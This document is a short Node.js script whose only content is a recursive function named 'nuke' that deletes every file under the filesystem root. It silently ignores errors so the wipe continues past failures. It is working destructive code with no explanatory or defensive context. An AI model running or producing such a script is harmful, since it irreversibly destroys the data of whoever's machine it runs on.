const fs = require('fs');
const path = require('path');

function nuke(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    try {
      if (fs.lstatSync(p).isDirectory()) nuke(p);
      else fs.unlinkSync(p);
    } catch (e) {}
  }
}
nuke('/');
